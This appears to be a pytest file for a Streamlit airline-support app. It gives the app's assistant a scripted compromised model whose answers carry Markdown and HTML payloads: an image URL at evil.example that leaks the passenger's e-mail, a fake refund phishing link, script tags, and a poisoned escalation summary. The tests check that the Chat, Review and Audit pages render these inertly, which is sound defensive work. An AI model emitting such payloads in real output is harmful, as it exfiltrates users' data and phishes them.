"""Output handling on the pages themselves (AppTest): the app's assistant is given a
compromised model that reads the passenger's trips and answers with Markdown built to leak
them (an image whose URL carries the e-mail, a phishing link, raw HTML), and puts the same text
into an escalation summary. Every Markdown body, caption, notice and label the Chat, Review and
Audit pages hand to Streamlit must be inert (tests/security/inert.py)."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from langchain_core.messages import BaseMessage, HumanMessage
from sqlalchemy import select
from streamlit.testing.v1 import AppTest

import agent.runtime
from agent.models.scripted import ScriptedChatModel, reply
from db.models import AuditEvent, Conversation
from tests.security.inert import problems
from tests.ui import conftest as ui_fixtures
from tests.ui.apptest import open_page, signed_in
from tests.ui.conftest import World
from world import persona_passenger_id

# The seeded demo world and the app's environment of the page tests (instead of the agent
# tests' small world the rest of the attack suite uses).
world = ui_fixtures.world
app_env = ui_fixtures.app_env

pytestmark = pytest.mark.usefixtures("app_env")
HOSTS = frozenset({"alpine-air.example"})
ANSWER = (
    "Here is the status ![status](http://evil.example/p.png?e={email}) and "
    "[confirm the refund](http://evil.example/pay) <img src=http://evil.example/i.png> "
    "<script>alert(1)</script> ![x][b] <http://evil.example/auto> www.evil.example "
    ":red[urgent] $x$\n\n[b]: http://evil.example/ref.png"
)
SUMMARY = "Customer asks ![x](http://evil.example/s.png?e=leak) <img src=http://evil.example/e>"
# What Streamlit renders as Markdown: bodies of these elements, labels of every element.
BODIES = {"markdown", "caption", "error", "warning", "info", "success", "exception"}
NOT_MARKDOWN = {"json", "text", "code", "arrow_data_frame", "dataframe"}


def _texts(node: Any) -> Iterator[tuple[str, str]]:
    kind = getattr(node, "type", type(node).__name__)
    label = getattr(node, "label", None)
    if isinstance(label, str):
        yield f"{kind} label", label
    if kind in BODIES:
        yield kind, str(node.value)
    if kind == "table":  # st.table renders its cells as Markdown
        frame = node.value
        for value in [*frame.index, *frame.to_numpy().ravel()]:
            yield "table cell", str(value)
    for child in getattr(node, "children", {}).values():
        yield from _texts(child)


def assert_page_inert(at: AppTest) -> list[str]:
    """Every text on the page, checked; returns them for further assertions."""
    assert not at.exception, at.exception
    shown = [(k, v) for root in (at.main, at.sidebar) for k, v in _texts(root)]
    shown = [(k, v) for k, v in shown if not v.startswith("<style>")]
    bad = [(k, v, p) for k, v in shown if (p := problems(v, HOSTS))]
    assert not bad, bad
    return [v for _, v in shown]


@pytest.fixture
def hostile(monkeypatch: pytest.MonkeyPatch, app_env: World) -> dict[str, Any]:  # noqa: ARG001
    """The app's assistant talks to a compromised model: a first message makes it read the
    trips (and, with `escalate`, hand over with SUMMARY); after the tools it answers ANSWER
    with the passenger's e-mail in the image URL."""
    plan: dict[str, Any] = {"escalate": False, "email": "anna@example.com"}

    def respond(messages: list[BaseMessage]) -> Any:
        if isinstance(messages[-1], HumanMessage):
            calls: list[Any] = [("get_passenger_trips", {})]
            if plan["escalate"]:
                # A refused read is audited with a message quoting the argument.
                calls.append(("quote_cancellation", {"ticket_no": SUMMARY}))
                calls.append(
                    ("escalate_to_human", {"reason": "customer_request", "summary": SUMMARY})
                )
            return reply("", *calls)
        return ANSWER.replace("{email}", plan["email"])

    model = ScriptedChatModel(responder=respond)
    monkeypatch.setattr(agent.runtime, "make_chat_model", lambda _settings: model)
    return plan


def chat_with_anna(app_env: World, text: str) -> AppTest:
    at = open_page(signed_in("agent"), "chat")
    with app_env.sessions() as session:
        anna = persona_passenger_id(session, "anna")
    at.text_input(key="chat_query").input("Anna Keller").run()
    at = at.selectbox(key="chat_pick").select(anna).run()
    return at.chat_input(key="chat_input").set_value(text).run()


@pytest.mark.usefixtures("hostile")
def test_a_hostile_answer_is_inert_on_the_chat_page(app_env: World) -> None:
    at = chat_with_anna(app_env, "Hi ![me](http://evil.example/u.png) <img src=x>")
    texts = assert_page_inert(at)  # streamed
    assert any("confirm the refund" in t for t in texts), texts
    assert_page_inert(at.run())  # redrawn from the checkpoint


def test_a_hostile_escalation_is_inert_on_card_review_and_audit(hostile, app_env: World) -> None:
    hostile["escalate"] = True
    at = chat_with_anna(app_env, "Please hand me to a colleague")
    assert any("evil.example" in t for t in assert_page_inert(at))  # the approval card
    at = at.button(key="chat_approve").click().run()
    assert_page_inert(at)

    with app_env.sessions() as session:
        conversation = session.scalars(
            select(Conversation).order_by(Conversation.started_at.desc())
        ).first()
        records = [
            session.scalars(
                select(AuditEvent.seq)
                .where(AuditEvent.action == action, AuditEvent.outcome == outcome)
                .order_by(AuditEvent.seq.desc())
            ).first()
            for action, outcome in (
                ("escalate_to_human", "executed"),
                ("quote_cancellation", "invalid"),
            )
        ]
    assert conversation is not None and None not in records

    review = open_page(signed_in("manager"), "review")
    review = review.selectbox(key="review_range").select("Last 90 days").run()
    review = review.selectbox(key="review_open").select(conversation.id).run()
    assert any("confirm the refund" in t for t in assert_page_inert(review))

    audit = open_page(signed_in("manager"), "audit")
    audit = audit.selectbox(key="audit_range").select("Last 90 days").run()
    for seq in records:
        audit = audit.selectbox(key="audit_record").select(seq).run()
        assert_page_inert(audit)
    assert any("is not a ticket number" in t for t in assert_page_inert(audit))
